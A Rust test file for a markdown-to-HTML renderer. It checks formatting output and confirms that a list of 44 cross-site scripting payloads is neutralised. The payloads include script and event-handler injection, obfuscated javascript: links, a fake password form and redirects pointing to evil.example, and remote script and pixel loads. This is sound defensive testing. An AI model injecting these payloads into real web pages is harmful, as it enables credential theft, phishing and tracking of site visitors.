//! Texts that people wrote, and texts that attackers did.

use super::*;

#[test]
fn markdown_becomes_what_it_says() {
    for (markdown, expected) in [
        ("", ""),
        (
            "Come **all**, *please*",
            "<p>Come <strong>all</strong>, <em>please</em></p>\n",
        ),
        (
            "# One\n\n## Two\n\n##### Five",
            "<h3>One</h3>\n<h4>Two</h4>\n<h6>Five</h6>\n",
        ),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. c", "<ol start=\"3\">\n<li>c</li>\n</ol>\n"),
        ("~~no~~", "<p><del>no</del></p>\n"),
        ("`x < y`", "<p><code>x &lt; y</code></p>\n"),
        (
            "会場は[日本科学未来館](https://club.example/あ)",
            "<p>会場は<a href=\"https://club.example/あ\" rel=\"noopener noreferrer nofollow\">日本科学未来館</a></p>\n",
        ),
        (
            "<mail@club.example>",
            "<p><a href=\"mailto:mail@club.example\" rel=\"noopener noreferrer nofollow\">mail@club.example</a></p>\n",
        ),
        (
            "**Map:** https://club.example/a_b?c=1&d=2.",
            "<p><strong>Map:</strong> <a href=\"https://club.example/a_b?c=1&amp;d=2\" rel=\"noopener noreferrer \
             nofollow\">https://club.example/a_b?c=1&amp;d=2</a>.</p>\n",
        ),
        ("`https://club.example`", "<p><code>https://club.example</code></p>\n"),
        (
            "```\nhttps://club.example\n```\n\n    https://club.example",
            "<pre><code>https://club.example\n</code></pre>\n<pre><code>https://club.example</code></pre>\n",
        ),
        (
            "[https://a.example](https://b.example)",
            "<p><a href=\"https://b.example\" rel=\"noopener noreferrer nofollow\">https://a.example</a></p>\n",
        ),
        ("![https://a.example](https://b.example)", "<p>https://a.example</p>\n"),
        (
            "<b>https://a.example",
            "<p>&lt;b&gt;<a href=\"https://a.example\" rel=\"noopener noreferrer nofollow\">https://a.example</a></p>\n",
        ),
        (
            "<b title=https://a.example>",
            "<p>&lt;b title=https://a.example&gt;</p>\n",
        ),
        ("![a map](https://club.example/map.png)", "<p>a map</p>\n"),
        ("5 < 6 & 7", "<p>5 &lt; 6 &amp; 7</p>\n"),
    ] {
        let percent = "https://club.example/%E3%81%82";
        let expected = expected.replace("href=\"https://club.example/あ\"", &format!("href=\"{percent}\""));
        assert_eq!(to_html(markdown), expected, "{markdown}");
    }
    let table = to_html("| a | b |\n|:-:|---|\n| 1 | 2 |");
    assert!(table.contains("<th>a</th>") && table.contains("<td>2</td>"), "{table}");
}

/// What has been used against pages that show what strangers wrote.
const ATTACKS: [&str; 44] = [
    "https://a.example/\"onmouseover=alert(1)",
    "https://a.example/'onmouseover='alert(1)",
    "https://a.example/<script>alert(1)</script>",
    "https://javascript:alert(1)",
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<embed src=\"//evil.example/x.swf\">",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"https://a.example\" onclick=\"alert(1)\">x</a>",
    "<form action=\"https://evil.example\"><input name=password><button>Sign in</button></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=\"//evil.example/x.css\">",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](&#x6A&#x61;vascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example)",
    "[x](/api/session)",
    "[x](https://a.example \"onmouseover=alert(1) x=\")",
    "[x](https://a.example\"onmouseover=\"alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<javascript:alert(1)>\n\n[a]: javascript:alert(1)\n\n[a]",
];

#[test]
fn nothing_that_strangers_write_runs_or_loads_anything() {
    for attack in ATTACKS {
        for text in [
            attack.to_owned(),
            format!("# {attack}"),
            format!("- **a** {attack}\n\n{attack}"),
        ] {
            check(&to_html(&text), &text);
        }
    }
}

/// Every tag of the answer is one of ours, with no attribute but those that we know.
fn check(html: &str, text: &str) {
    for tag in html.split('<').skip(1) {
        let (tag, _) = tag.split_once('>').unwrap();
        let tag = tag.trim_start_matches('/');
        let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        assert!(TAGS.contains(&name), "{text}: {html}");
        let known = attributes
            .replace(" rel=\"noopener noreferrer nofollow\"", "")
            .replace("rel=\"noopener noreferrer nofollow\"", "");
        let is_good = known.is_empty()
            || ["href=\"https://", "href=\"mailto:", "href=\"http://"]
                .iter()
                .any(|start| known.starts_with(start) && known.matches('"').count() == 2);
        assert!(is_good || known.starts_with("start="), "{text}: {html}");
    }
    // It is as clean as it gets: cleaning it again changes nothing.
    assert_eq!(CLEANER.clean(html).to_string(), html, "{text}");
}

#[test]
fn long_and_deep_texts_end() {
    for piece in [
        "> ",
        "- ",
        "[",
        "*a ",
        "<a ",
        "`",
        "![",
        "| a ",
        "https://",
        "https://a.b ",
        "https://a.b/)",
        ")",
    ] {
        to_html(&piece.repeat(12_000 / piece.len()));
        to_html(&["https://a.b/", &piece.repeat(12_000 / piece.len())].concat());
    }
}
